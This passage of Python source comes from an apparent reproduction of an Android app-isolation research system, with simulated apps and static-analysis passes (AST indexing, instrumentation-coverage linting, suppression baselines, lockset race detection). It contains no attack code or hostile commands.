        return hashlib.sha1(name.encode()).hexdigest()[:24]

    def fetch(self, api: AppApi, name: str) -> str:
        """Download a file into the private cache: world-readable file in a
        non-listable directory (mode 0711)."""
        data = api.fetch(HOST, name)
        cache_dir = vpath.join(api.internal_dir, self.CACHE_DIR)
        api.sys.makedirs(cache_dir, mode=0o711)
        path = vpath.join(cache_dir, self._random_name(name))
        api.sys.write_file(path, data, mode=0o644)
        self._cache_paths[name] = path
        return path

    def open_file(self, api: AppApi, name: str):
        """Invoke a viewer on a cached file, disclosing only its path."""
        path = self._cache_paths[name]
        return api.start_activity(Intent(Intent.ACTION_VIEW, extras={"path": path}))
