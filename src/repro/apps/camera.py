"""A camera app modelled on CameraMX (Table 1, row 3).

Taking a photo leaves the photo file on the SD card and a new entry in the
Media provider; editing a photo leaves another Media entry. Both tasks
appear in Table 5's application benchmarks.
"""

from __future__ import annotations

import itertools
from typing import Any, Dict

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp
from repro.kernel import path as vpath

PACKAGE = "com.magix.camera_mx"


class CameraApp(SimApp):
    """CameraMX-like camera + photo editor."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="CameraMX",
        handles=[IntentFilter(actions=[Intent.ACTION_IMAGE_CAPTURE, Intent.ACTION_EDIT])],
    )

    def __init__(self) -> None:
        super().__init__()
        self._shot_counter = itertools.count(1)

    def on_image_capture(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        """Take a photo: file on SD + Media provider entry."""
        sensor_data = intent.extras.get("frame", b"\xff\xd8JPEGDATA")
        shot = next(self._shot_counter)
        relative = f"DCIM/Camera/IMG_{shot:04d}.jpg"
        path = api.write_external(relative, bytes(sensor_data))
        media_uri = api.scan_media(path)
        return {"path": path, "media_uri": str(media_uri)}

    def on_edit(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        """Edit a photo and save the result: a new SD file + Media entry."""
        source = str(intent.extras["path"])
        original = api.sys.read_file(source)
        edited = b"EDITED:" + original
        name = vpath.basename(source).rsplit(".", 1)[0]
        relative = f"DCIM/Camera/{name}_edit.jpg"
        path = api.write_external(relative, edited)
        media_uri = api.scan_media(path)
        return {"path": path, "media_uri": str(media_uri)}
