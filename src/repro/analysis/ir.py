"""The static-analysis IR: a per-module AST index with call resolution.

:class:`CodeIndex` parses every module under a package root once and
indexes classes and functions by qualified name. On top of that it
offers the two resolution services the passes share:

- :meth:`CodeIndex.resolve_call` — map a ``self.helper(...)`` /
  ``helper(...)`` call site to the :class:`FunctionInfo` it names
  (same-class methods and same-module functions only: the passes are
  intraprocedural by design and inline only through the kernel-layer
  helper idiom, ``public() -> _impl() -> _body()``);
- :meth:`CodeIndex.inline_nodes` — the **effective body** of a method:
  every AST node of the method plus, bounded by ``depth`` levels, the
  bodies of the resolvable helpers it calls. The gate linter proves
  instrumentation presence over this flattened view, so a quartet split
  across ``write_file -> _write_file_impl -> _write_file_body`` still
  counts as carried by the public boundary.

The index is purely syntactic — nothing is imported or executed — so it
can safely chew on planted-defect fixtures and on the live tree alike.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass
from pathlib import Path
from typing import Dict, Iterator, List, Optional, Sequence, Tuple

__all__ = ["CodeIndex", "FunctionInfo", "ModuleIndex", "dotted"]

#: Modules never scanned: the analysis plane itself is offline tooling,
#: not part of the simulation's byte-identical replay contract.
DEFAULT_EXCLUDES: Tuple[str, ...] = ("repro.analysis",)


def dotted(node: Optional[ast.AST]) -> Optional[Tuple[str, ...]]:
    """The name chain of an attribute expression, outermost name first.

    ``self.obs.tracer.span`` -> ``("self", "obs", "tracer", "span")``;
    returns ``None`` for anything that is not a pure ``Name.attr...``
    chain (calls, subscripts, literals).
    """
    parts: List[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return tuple(reversed(parts))
    return None


@dataclass
class FunctionInfo:
    """One indexed function or method."""

    module: "ModuleIndex"
    name: str
    qualname: str  #: ``"Cls.method"`` or bare ``"function"``
    cls: Optional[str]
    node: ast.FunctionDef

    @property
    def line(self) -> int:
        return self.node.lineno

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"FunctionInfo({self.module.name}:{self.qualname})"


class ModuleIndex:
    """The parsed AST of one module plus its symbol tables."""

    def __init__(self, name: str, path: Path, tree: ast.Module) -> None:
        self.name = name
        self.path = path
        self.tree = tree
        self.classes: Dict[str, ast.ClassDef] = {}
        self.functions: Dict[str, FunctionInfo] = {}
        for node in tree.body:
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                self.functions[node.name] = FunctionInfo(
                    module=self, name=node.name, qualname=node.name, cls=None, node=node
                )
            elif isinstance(node, ast.ClassDef):
                self.classes[node.name] = node
                for item in node.body:
                    if isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef)):
                        qualname = f"{node.name}.{item.name}"
                        self.functions[qualname] = FunctionInfo(
                            module=self,
                            name=item.name,
                            qualname=qualname,
                            cls=node.name,
                            node=item,
                        )

    def methods_of(self, cls: str) -> List[FunctionInfo]:
        return [fn for fn in self.functions.values() if fn.cls == cls]

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"ModuleIndex({self.name}, {len(self.functions)} functions)"


class CodeIndex:
    """Every indexed module of one package root."""

    def __init__(self) -> None:
        self.modules: Dict[str, ModuleIndex] = {}
        self.errors: List[Tuple[str, str]] = []  #: (path, parse error)

    @classmethod
    def build(
        cls,
        root: Path,
        package: Optional[str] = None,
        exclude: Sequence[str] = DEFAULT_EXCLUDES,
    ) -> "CodeIndex":
        """Index every ``*.py`` under ``root``.

        ``package`` names the dotted prefix (defaults to the root
        directory's name); ``exclude`` drops modules whose dotted name
        starts with any given prefix.
        """
        root = Path(root)
        package = package if package is not None else root.name
        index = cls()
        for path in sorted(root.rglob("*.py")):
            parts = path.relative_to(root).with_suffix("").parts
            if parts and parts[-1] == "__init__":
                parts = parts[:-1]
            name = ".".join((package, *parts)) if parts else package
            if any(name == p or name.startswith(p + ".") for p in exclude):
                continue
            try:
                tree = ast.parse(path.read_text(), filename=str(path))
            except SyntaxError as error:  # pragma: no cover - defensive
                index.errors.append((str(path), str(error)))
                continue
            index.modules[name] = ModuleIndex(name, path, tree)
        return index

    # -- resolution -------------------------------------------------------

    def function(self, module: str, qualname: str) -> Optional[FunctionInfo]:
        mod = self.modules.get(module)
        if mod is None:
            return None
        return mod.functions.get(qualname)

    def resolve_call(self, caller: FunctionInfo, call: ast.Call) -> Optional[FunctionInfo]:
        """The helper a call site names, if it is statically resolvable.

        Resolves ``self.helper(...)`` / ``cls.helper(...)`` to a method
        of the caller's class and bare ``helper(...)`` to a module-level
        function of the caller's module. Everything else — cross-object
        calls, stdlib, dynamically-bound handlers — stays unresolved,
        which is what keeps the passes honest about their scope.
        """
        chain = dotted(call.func)
        if chain is None:
            return None
        if len(chain) == 2 and chain[0] in ("self", "cls") and caller.cls is not None:
            return self.function(caller.module.name, f"{caller.cls}.{chain[1]}")
        if len(chain) == 1:
            resolved = self.function(caller.module.name, chain[0])
            # A bare name may also be a class constructor; only functions count.
            return resolved
        return None

    # -- effective bodies -------------------------------------------------

    def inline_nodes(self, fn: FunctionInfo, depth: int = 3) -> Iterator[ast.AST]:
        """Every AST node of ``fn`` plus inlined helper bodies.

        ``depth`` bounds how many levels of resolvable helper calls are
        flattened in (each callee inlined at most once per walk). This is
        the "one level of inlining through kernel-layer helpers" idea,
        deepened just enough for the ``public -> _impl -> _locked/_body``
        idiom the kernel modules use.
        """
        seen = {fn.qualname}

        def emit(current: FunctionInfo, budget: int) -> Iterator[ast.AST]:
            for node in ast.walk(current.node):
                yield node
                if budget > 0 and isinstance(node, ast.Call):
                    callee = self.resolve_call(current, node)
                    if callee is not None and callee.qualname not in seen:
                        seen.add(callee.qualname)
                        yield from emit(callee, budget - 1)

        return emit(fn, depth)
