"""Static analysis plane: offline passes over the simulation's own code.

Three passes share one AST index (:mod:`repro.analysis.ir`):

- :mod:`repro.analysis.gates` — kernel-boundary instrumentation
  coverage (the obs/faults/sched/prov quartet);
- :mod:`repro.analysis.locksets` — Eraser-style static race detection
  over kernel singletons, cross-checked against the dynamic
  ``race_candidates()``;
- :mod:`repro.analysis.determinism` — ambient-nondeterminism lint
  protecting the byte-identical replay contract.

Run via ``python -m repro.analysis`` (see :mod:`repro.analysis.cli`).
This package is offline tooling: nothing under the simulation imports
it, and it never imports (only parses) the modules it analyses.
"""

from repro.analysis.findings import Finding, rank_findings
from repro.analysis.ir import CodeIndex

__all__ = ["CodeIndex", "Finding", "rank_findings"]
