"""Baselined suppressions: known findings with written justifications.

A baseline entry suppresses exactly one finding fingerprint and must say
*why* the finding is acceptable (``justification``). Entries may carry an
``expires`` date (ISO ``YYYY-MM-DD``): past that date the entry stops
suppressing and the finding resurfaces — the mechanism for "acceptable
for now, revisit by X". Stale entries (suppressing nothing on the
current tree) are reported so the baseline cannot quietly accumulate
dead weight.

The file format (``analysis/BASELINE.json``) is reviewed like code: a
suppression without a believable justification should not survive
review.
"""

from __future__ import annotations

import datetime as _datetime
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Dict, Iterable, List, Optional, Tuple

from repro.analysis.findings import Finding

__all__ = ["Baseline", "BaselineEntry", "apply_baseline"]

SCHEMA_VERSION = 1


@dataclass(frozen=True)
class BaselineEntry:
    """One suppressed finding."""

    fingerprint: str
    pass_name: str
    rule: str
    symbol: str
    justification: str
    added: str = ""  #: ISO date the suppression was introduced
    expires: str = ""  #: ISO date after which it stops suppressing ("" = never)

    def expired(self, today: _datetime.date) -> bool:
        if not self.expires:
            return False
        return _datetime.date.fromisoformat(self.expires) < today

    def to_dict(self) -> Dict[str, str]:
        raw = {
            "fingerprint": self.fingerprint,
            "pass": self.pass_name,
            "rule": self.rule,
            "symbol": self.symbol,
            "justification": self.justification,
        }
        if self.added:
            raw["added"] = self.added
        if self.expires:
            raw["expires"] = self.expires
        return raw

    @classmethod
    def from_dict(cls, raw: Dict[str, str]) -> "BaselineEntry":
        return cls(
            fingerprint=raw["fingerprint"],
            pass_name=raw.get("pass", ""),
            rule=raw.get("rule", ""),
            symbol=raw.get("symbol", ""),
            justification=raw.get("justification", ""),
            added=raw.get("added", ""),
            expires=raw.get("expires", ""),
        )


@dataclass
class Baseline:
    """The committed suppression set."""

    entries: List[BaselineEntry] = field(default_factory=list)

    @classmethod
    def load(cls, path: Path) -> "Baseline":
        raw = json.loads(Path(path).read_text())
        version = raw.get("schema", SCHEMA_VERSION)
        if version != SCHEMA_VERSION:
            raise ValueError(f"unsupported baseline schema {version!r}")
        return cls(entries=[BaselineEntry.from_dict(e) for e in raw.get("suppressions", [])])

    def save(self, path: Path) -> None:
        payload = {
            "schema": SCHEMA_VERSION,
            "suppressions": [e.to_dict() for e in self.entries],
        }
        Path(path).write_text(json.dumps(payload, indent=2, sort_keys=True) + "\n")

    def entry_for(self, fingerprint: str) -> Optional[BaselineEntry]:
        for entry in self.entries:
            if entry.fingerprint == fingerprint:
                return entry
        return None

    @classmethod
    def from_findings(
        cls, findings: Iterable[Finding], justification: str, added: str
    ) -> "Baseline":
        return cls(
            entries=[
                BaselineEntry(
                    fingerprint=f.fingerprint,
                    pass_name=f.pass_name,
                    rule=f.rule,
                    symbol=f.symbol,
                    justification=justification,
                    added=added,
                )
                for f in findings
            ]
        )


@dataclass
class BaselineResult:
    """The outcome of filtering findings through a baseline."""

    new: List[Finding]  #: findings with no live suppression — these fail the run
    suppressed: List[Tuple[Finding, BaselineEntry]]
    resurfaced: List[Tuple[Finding, BaselineEntry]]  #: suppression expired
    stale: List[BaselineEntry]  #: entries matching nothing on this tree


def apply_baseline(
    findings: Iterable[Finding],
    baseline: Optional[Baseline],
    today: _datetime.date,
) -> BaselineResult:
    result = BaselineResult(new=[], suppressed=[], resurfaced=[], stale=[])
    matched: set = set()
    for finding in findings:
        entry = baseline.entry_for(finding.fingerprint) if baseline else None
        if entry is None:
            result.new.append(finding)
            continue
        matched.add(entry.fingerprint)
        if entry.expired(today):
            result.resurfaced.append((finding, entry))
            result.new.append(finding)
        else:
            result.suppressed.append((finding, entry))
    if baseline is not None:
        result.stale = [e for e in baseline.entries if e.fingerprint not in matched]
    return result
