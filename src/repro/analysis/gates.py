"""Gate-coverage linter: prove every kernel boundary carries its quartet.

Maxoid's dynamic verification planes (trace sweep, fault sweep, race
sweep, provenance monitor) only see what the kernel boundaries *emit* —
an enforcement point that silently lost its instrumentation drops out of
all of them at once, and nothing notices until a fuzz seed happens to
need it. This pass closes that loop statically: a registry declares, for
each kernel boundary method, which members of the instrumentation
quartet it must carry, and an AST walk over the method's *effective
body* (helpers inlined, see :mod:`repro.analysis.ir`) proves presence or
reports a finding.

The quartet members and their syntactic evidence:

- **obs** — an ``if <...>.obs.enabled:`` (or ``OBS.enabled``) gate whose
  body opens a ``tracer.span(...)`` or counts ``metrics``;
- **faults** — a ``FAULTS.hit("point", ...)`` fault-plane consult;
- **sched** — a ``SCHED.yield_point(...)`` call, or cooperative RWLock
  acquisition (``with <lock>.read()/.write():`` / ``with self._io_locks(...):``),
  either of which hands the deterministic scheduler a preemption point;
- **prov** — a provenance-ledger stamp (``<...>.provenance.<op>(...)``)
  where labels flow.

Not every boundary needs all four — the registry records the contract
per method (e.g. ``mounts.resolve`` is read-only: no provenance stamp).
A boundary method the registry names but the tree no longer defines is
itself a finding (``unresolved-boundary``): registry drift is exactly
the silent rot this pass exists to catch.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Sequence, Set, Tuple

from repro.analysis.findings import Finding
from repro.analysis.ir import CodeIndex, FunctionInfo, dotted

__all__ = [
    "GATE_REGISTRY",
    "GateRule",
    "QUARTET",
    "TAP_REGISTRY",
    "TapRule",
    "check_gates",
    "check_recorder_taps",
    "detect_members",
]

QUARTET: Tuple[str, ...] = ("obs", "faults", "sched", "prov")


@dataclass(frozen=True)
class GateRule:
    """One kernel boundary and the quartet members it must carry."""

    module: str
    cls: Optional[str]
    method: str
    requires: Tuple[str, ...]
    note: str = ""

    @property
    def qualname(self) -> str:
        return f"{self.cls}.{self.method}" if self.cls else self.method


def _rule(module: str, cls: str, method: str, *requires: str, note: str = "") -> GateRule:
    unknown = set(requires) - set(QUARTET)
    if unknown:
        raise ValueError(f"unknown quartet members {sorted(unknown)} for {module}:{method}")
    return GateRule(module=module, cls=cls, method=method, requires=tuple(requires), note=note)


#: The kernel-boundary contract. One entry per mediated public method
#: (plus the aufs copy-up helper, which *is* the boundary there).
GATE_REGISTRY: Tuple[GateRule, ...] = (
    # syscall layer ----------------------------------------------------
    _rule("repro.kernel.syscall", "Syscalls", "open", "obs", "sched", "prov"),
    _rule("repro.kernel.syscall", "Syscalls", "read_file", "obs", "sched", "prov"),
    _rule("repro.kernel.syscall", "Syscalls", "write_file", "obs", "faults", "sched", "prov"),
    _rule("repro.kernel.syscall", "Syscalls", "append_file", "obs", "faults", "sched", "prov"),
    # mount namespaces -------------------------------------------------
    _rule("repro.kernel.mounts", "MountNamespace", "resolve", "obs", "faults", "sched"),
    _rule("repro.kernel.mounts", "MountNamespace", "mount", "sched"),
    _rule("repro.kernel.mounts", "MountNamespace", "umount", "sched"),
    # aufs union filesystem --------------------------------------------
    _rule("repro.kernel.aufs", "AufsMount", "open", "obs"),
    _rule(
        "repro.kernel.aufs", "AufsMount", "_copy_up", "obs", "faults", "sched", "prov",
        note="copy-up is the mutation boundary; public ops funnel into it",
    ),
    # binder -----------------------------------------------------------
    _rule("repro.kernel.binder", "BinderDriver", "transact", "obs", "faults", "sched", "prov"),
    # activity manager -------------------------------------------------
    _rule("repro.android.am", "ActivityManagerService", "start_activity",
          "obs", "faults", "sched", "prov"),
    _rule("repro.android.am", "ActivityManagerService", "send_broadcast", "obs"),
    # zygote -----------------------------------------------------------
    _rule("repro.android.zygote", "Zygote", "fork_app", "obs", "faults", "prov"),
    # COW provider proxy -----------------------------------------------
    _rule("repro.core.cow", "CowProxy", "query", "obs", "prov"),
    _rule("repro.core.cow", "CowProxy", "insert", "obs", "prov"),
    _rule("repro.core.cow", "CowProxy", "update", "obs"),
    _rule("repro.core.cow", "CowProxy", "delete", "obs"),
    _rule("repro.core.cow", "CowProxy", "commit_volatile", "obs", "faults", "sched"),
    _rule("repro.core.cow", "CowProxy", "commit_volatile_batch", "obs", "faults", "sched"),
    # volatile state ---------------------------------------------------
    _rule("repro.core.volatile", "VolatileFiles", "commit", "obs", "faults", "sched", "prov"),
    _rule("repro.core.volatile", "VolatileFiles", "list_files", "obs"),
    # minisql ----------------------------------------------------------
    _rule("repro.minisql.engine", "Database", "execute", "obs", "prov"),
    # clipboard (no sched yield on purpose: clipboard mutations carry no
    # preemption point, which is what makes them atomic under the
    # cooperative scheduler — see the lockset baseline justification)
    _rule("repro.android.services.clipboard", "ClipboardService", "set_text", "obs", "prov"),
    _rule("repro.android.services.clipboard", "ClipboardService", "get_text", "obs", "prov"),
    # egress services --------------------------------------------------
    _rule("repro.android.services.bluetooth", "BluetoothService", "send",
          "obs", "faults", "sched"),
    _rule("repro.android.services.telephony", "TelephonyService", "send_sms",
          "obs", "faults", "sched"),
    _rule("repro.android.services.download_manager", "DownloadManager", "enqueue",
          "obs", "faults", "sched"),
)


@dataclass(frozen=True)
class TapRule:
    """One listener fanout site the flight recorder taps into.

    The recorder's zero-cost-when-off contract rests on every evidence
    plane *fanning out to its listener list* at the moment it records —
    a plane that stops doing so silently drops out of every black box
    without failing any dynamic test (the recorder tests only cover the
    planes they exercise). This registry pins the fanout sites; the
    detector looks for a ``for ... in <...listeners...>:`` loop in the
    method's effective body.
    """

    module: str
    cls: Optional[str]
    method: str
    note: str = ""

    @property
    def qualname(self) -> str:
        return f"{self.cls}.{self.method}" if self.cls else self.method


#: Every plane the flight recorder taps (see repro.obs.recorder.arm).
TAP_REGISTRY: Tuple[TapRule, ...] = (
    TapRule("repro.obs.trace", "Tracer", "_finish", note="span/prov tap"),
    TapRule("repro.faults.plane", "FaultPlane", "hit", note="fault-consult tap"),
    TapRule(
        "repro.core.audit", "AuditLog", "record",
        note="audit tap (violation/timeout autoseal)",
    ),
    TapRule(
        "repro.sched.reactor", "DeterministicScheduler", "_loop",
        note="decision + deadlock-trigger taps",
    ),
    TapRule("repro.sched.locks", "RWLock", "_acquire", note="lock-grant tap"),
)


# ----------------------------------------------------------------------
# Evidence detectors
# ----------------------------------------------------------------------

def _is_obs_enabled_test(test: ast.AST) -> bool:
    chain = dotted(test)
    return (
        chain is not None
        and chain[-1] == "enabled"
        and any("obs" in part.lower() for part in chain[:-1])
    )


def _has_obs_gate(nodes: Sequence[ast.AST]) -> bool:
    for node in nodes:
        if not isinstance(node, ast.If) or not _is_obs_enabled_test(node.test):
            continue
        for sub in ast.walk(node):
            if not isinstance(sub, ast.Call):
                continue
            chain = dotted(sub.func)
            if chain is None:
                continue
            if chain[-1] == "span" and "tracer" in chain:
                return True
            if chain[-1] in ("count", "observe") and "metrics" in chain:
                return True
    return False


def _has_fault_point(nodes: Sequence[ast.AST]) -> bool:
    for node in nodes:
        if isinstance(node, ast.Call):
            chain = dotted(node.func)
            if (
                chain is not None
                and chain[-1] == "hit"
                and any("fault" in part.lower() for part in chain[:-1])
            ):
                return True
    return False


def _is_lock_acquire(chain: Optional[Tuple[str, ...]]) -> bool:
    if chain is None:
        return False
    if chain[-1] in ("read", "write") and any("lock" in p.lower() for p in chain[:-1]):
        return True
    return "lock" in chain[-1].lower()


def _has_sched_point(nodes: Sequence[ast.AST]) -> bool:
    for node in nodes:
        if isinstance(node, ast.Call):
            chain = dotted(node.func)
            if (
                chain is not None
                and chain[-1] in ("yield_point", "sleep")
                and any("sched" in part.lower() for part in chain[:-1])
            ):
                return True
        elif isinstance(node, ast.With):
            for item in node.items:
                expr = item.context_expr
                if isinstance(expr, ast.Call) and _is_lock_acquire(dotted(expr.func)):
                    return True
    return False


def _has_prov_stamp(nodes: Sequence[ast.AST]) -> bool:
    for node in nodes:
        if isinstance(node, ast.Call):
            chain = dotted(node.func)
            if chain is not None and "provenance" in chain[:-1]:
                return True
    return False


def _has_tap_fanout(nodes: Sequence[ast.AST]) -> bool:
    """A ``for listener in <...listeners...>:`` fanout loop."""
    for node in nodes:
        if isinstance(node, ast.For):
            chain = dotted(node.iter)
            if chain is not None and any(
                "listener" in part.lower() for part in chain
            ):
                return True
    return False


_DETECTORS = {
    "obs": _has_obs_gate,
    "faults": _has_fault_point,
    "sched": _has_sched_point,
    "prov": _has_prov_stamp,
}


def detect_members(index: CodeIndex, fn: FunctionInfo, depth: int = 3) -> Set[str]:
    """Which quartet members ``fn``'s effective body carries."""
    nodes = list(index.inline_nodes(fn, depth=depth))
    return {member for member, detect in _DETECTORS.items() if detect(nodes)}


# ----------------------------------------------------------------------
# The pass
# ----------------------------------------------------------------------

def check_gates(
    index: CodeIndex,
    registry: Iterable[GateRule] = GATE_REGISTRY,
    depth: int = 3,
) -> List[Finding]:
    """Every quartet member a registered boundary is missing."""
    findings: List[Finding] = []
    for rule in registry:
        fn = index.function(rule.module, rule.qualname)
        symbol = f"{rule.qualname}" if rule.cls else rule.method
        if fn is None:
            mod = index.modules.get(rule.module)
            findings.append(
                Finding(
                    pass_name="gates",
                    rule="unresolved-boundary",
                    severity="error",
                    module=rule.module,
                    symbol=symbol,
                    file=str(mod.path) if mod is not None else rule.module,
                    line=1,
                    message=(
                        f"registered kernel boundary {rule.module}:{rule.qualname} "
                        "no longer resolves — update the gate registry or restore "
                        "the method"
                    ),
                )
            )
            continue
        present = detect_members(index, fn, depth=depth)
        for member in rule.requires:
            if member in present:
                continue
            findings.append(
                Finding(
                    pass_name="gates",
                    rule=f"missing-{member}",
                    severity="error",
                    module=rule.module,
                    symbol=symbol,
                    file=str(fn.module.path),
                    line=fn.line,
                    message=(
                        f"kernel boundary lacks its {member} instrumentation "
                        f"(requires {'+'.join(rule.requires)}; "
                        f"found {'+'.join(sorted(present)) or 'none'})"
                    ),
                )
            )
    # The default run also proves the flight recorder's tap contract;
    # callers probing a custom registry (the planted fixtures) check
    # exactly what they registered and nothing else.
    if registry is GATE_REGISTRY:
        findings.extend(check_recorder_taps(index, depth=depth))
    return findings


def check_recorder_taps(
    index: CodeIndex,
    registry: Iterable[TapRule] = TAP_REGISTRY,
    depth: int = 3,
) -> List[Finding]:
    """Every registered evidence plane missing its listener fanout."""
    findings: List[Finding] = []
    for rule in registry:
        fn = index.function(rule.module, rule.qualname)
        symbol = rule.qualname
        if fn is None:
            mod = index.modules.get(rule.module)
            findings.append(
                Finding(
                    pass_name="gates",
                    rule="unresolved-tap-site",
                    severity="error",
                    module=rule.module,
                    symbol=symbol,
                    file=str(mod.path) if mod is not None else rule.module,
                    line=1,
                    message=(
                        f"registered recorder tap site {rule.module}:{rule.qualname} "
                        "no longer resolves — update TAP_REGISTRY or restore "
                        "the method"
                    ),
                )
            )
            continue
        nodes = list(index.inline_nodes(fn, depth=depth))
        if _has_tap_fanout(nodes):
            continue
        findings.append(
            Finding(
                pass_name="gates",
                rule="missing-tap-fanout",
                severity="error",
                module=rule.module,
                symbol=symbol,
                file=str(fn.module.path),
                line=fn.line,
                message=(
                    f"evidence plane lost its listener fanout ({rule.note or 'tap'}): "
                    "the flight recorder can no longer observe this plane"
                ),
            )
        )
    return findings
