"""Static lockset race detector (Eraser/RacerD-style, cooperative flavor).

The dynamic detector (``SCHED.race_candidates()``) flags resources two
tasks touched with disjoint *held-lock* sets — but only for schedules a
sweep happened to run. This pass computes the same thing statically:

1. **Shared state**: for each registered kernel singleton class, the
   mutable attributes its ``__init__`` creates (``self._x = {}`` / ``[]``
   / ``set()`` / comprehensions) are the abstract shared resources.
2. **Locksets**: walking each public method (helpers inlined, depth
   bounded), a ``with``-block over ``<lock>.read()`` / ``<lock>.write()``
   or the syscall layer's ``self._io_locks(...)`` helper (which acquires
   the shared ``"ns"`` namespace lock and the resolved filesystem's
   rwlock) extends the lockset for its body.
3. **Accesses**: every read/write of a shared attribute is recorded with
   the lockset held at that point. Statements dominated by the
   scheduler-off fallback (the ``if SCHED.enabled: ...; return`` idiom's
   tail) are skipped — they only run single-threaded.
4. **Race pairs**: a resource written by one entry point and touched by
   a *different* entry point with a disjoint lockset is reported, the
   exact analogue of the dynamic detector's flag.

Soundness caveats (documented in DESIGN §10): the pass is intraprocedural
plus bounded same-class/-module inlining, so locks taken by a *caller*
(e.g. the syscall layer wrapping aufs mutations in the fs rwlock) are
invisible — those report as races and carry written false-positive
justifications in the baseline. Conversely, accesses with no yield point
between check and act are atomic under the cooperative scheduler even
with an empty lockset; the pass deliberately still reports them (the
atomicity argument lives in the baseline note, where a later edit that
adds a yield point will void it loudly via the cross-check test).

The planted ``binder-guard-race`` TOCTOU (``IpcGuard`` registry rebuild
vs. fail-open policy lookup) is the positive control: this pass must
report ``IpcGuard._instance_contexts`` with the ``binder-guard-race``
tag, and the finding cross-checks against the dynamic detector's
``guard-registry`` resource in the interleave sweep.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass
from typing import Dict, FrozenSet, Iterable, List, Optional, Sequence, Set, Tuple

from repro.analysis.findings import Finding
from repro.analysis.ir import CodeIndex, FunctionInfo, ModuleIndex, dotted

__all__ = [
    "Access",
    "KNOWN_RACES",
    "SHARED_SINGLETONS",
    "SharedClass",
    "check_locksets",
    "collect_accesses",
    "mutable_attrs",
]


@dataclass(frozen=True)
class SharedClass:
    """One kernel singleton whose instances are shared across tasks."""

    module: str
    cls: str
    note: str = ""


#: The registry: kernel objects reachable from more than one scheduled
#: task (device-wide singletons and namespace-shared structures).
SHARED_SINGLETONS: Tuple[SharedClass, ...] = (
    SharedClass("repro.kernel.mounts", "MountNamespace",
                "mount table shared across unshare() clones"),
    SharedClass("repro.kernel.aufs", "AufsMount",
                "union mounts shared by every process resolving into them"),
    SharedClass("repro.kernel.binder", "BinderDriver", "device-wide IPC router"),
    SharedClass("repro.core.ipc_guard", "IpcGuard", "device-wide delegate guard"),
    SharedClass("repro.android.services.clipboard", "ClipboardService",
                "per-domain clipboards shared by every process"),
    SharedClass("repro.android.am", "ActivityManagerService",
                "device-wide invocation bookkeeping"),
)

#: Statically-found resources that map onto *planted* dynamic races:
#: (class, attr) -> (planted bug-mode name, dynamic race_candidates
#: resource annotation). The positive control the tests pin.
KNOWN_RACES: Dict[Tuple[str, str], Tuple[str, str]] = {
    ("IpcGuard", "_instance_contexts"): ("binder-guard-race", "guard-registry"),
}

#: Method names that mutate their receiver container in place.
_MUTATORS: FrozenSet[str] = frozenset(
    {
        "append", "extend", "insert", "add", "update", "clear", "pop",
        "popitem", "setdefault", "remove", "discard",
    }
)

#: Kernel-layer lock helpers modeled by effect instead of inlined:
#: name -> the abstract lock names a ``with self.<name>(...)`` acquires.
_LOCK_HELPERS: Dict[str, FrozenSet[str]] = {
    "_io_locks": frozenset({"ns", "fs"}),
}

_MUTABLE_CALLS = {"dict", "list", "set", "defaultdict", "OrderedDict", "deque", "Counter"}


@dataclass(frozen=True)
class Access:
    """One statically-observed access to a shared attribute."""

    entry: str  #: entry-point qualname, e.g. "IpcGuard.binder_policy"
    cls: str
    attr: str
    rw: str  #: "r" | "w"
    locks: FrozenSet[str]
    file: str
    line: int

    @property
    def resource(self) -> str:
        return f"{self.cls}.{self.attr}"


# ----------------------------------------------------------------------
# Shared-attribute discovery
# ----------------------------------------------------------------------

def _is_mutable_value(node: ast.AST) -> bool:
    if isinstance(node, (ast.Dict, ast.List, ast.Set, ast.DictComp, ast.ListComp, ast.SetComp)):
        return True
    if isinstance(node, ast.Call):
        chain = dotted(node.func)
        return chain is not None and chain[-1] in _MUTABLE_CALLS
    if isinstance(node, ast.IfExp):
        return _is_mutable_value(node.body) or _is_mutable_value(node.orelse)
    return False


def mutable_attrs(module: ModuleIndex, cls: str) -> Set[str]:
    """Attributes ``__init__`` binds to fresh mutable containers."""
    init = module.functions.get(f"{cls}.__init__")
    if init is None:
        return set()
    found: Set[str] = set()
    for node in ast.walk(init.node):
        target = None
        value = None
        if isinstance(node, ast.Assign) and len(node.targets) == 1:
            target, value = node.targets[0], node.value
        elif isinstance(node, ast.AnnAssign) and node.value is not None:
            target, value = node.target, node.value
        if (
            isinstance(target, ast.Attribute)
            and isinstance(target.value, ast.Name)
            and target.value.id == "self"
            and value is not None
            and _is_mutable_value(value)
        ):
            found.add(target.attr)
    return found


# ----------------------------------------------------------------------
# Lock modeling
# ----------------------------------------------------------------------

def _sched_enabled_test(test: ast.AST) -> bool:
    chain = dotted(test)
    return (
        chain is not None
        and chain[-1] == "enabled"
        and any("sched" in part.lower() for part in chain[:-1])
    )


def _terminates(stmts: Sequence[ast.stmt]) -> bool:
    """Does this block always leave the function (return/raise)?"""
    if not stmts:
        return False
    last = stmts[-1]
    if isinstance(last, (ast.Return, ast.Raise)):
        return True
    if isinstance(last, ast.With):
        return _terminates(last.body)
    if isinstance(last, ast.If):
        return _terminates(last.body) and _terminates(last.orelse)
    return False


def _acquired_locks(item: ast.withitem, cls: str) -> FrozenSet[str]:
    expr = item.context_expr
    if not isinstance(expr, ast.Call):
        return frozenset()
    chain = dotted(expr.func)
    if chain is None:
        return frozenset()
    if chain[-1] in _LOCK_HELPERS and chain[0] in ("self", "cls"):
        return _LOCK_HELPERS[chain[-1]]
    if chain[-1] in ("read", "write") and any("lock" in p.lower() for p in chain[:-1]):
        owner = [p for p in chain[:-1] if p not in ("self", "cls")]
        name = ".".join(owner) or "lock"
        # Anchor self-attribute locks to the class so the same lock gets
        # the same abstract name from every method of that class.
        if chain[0] in ("self", "cls"):
            name = f"{cls}.{name}"
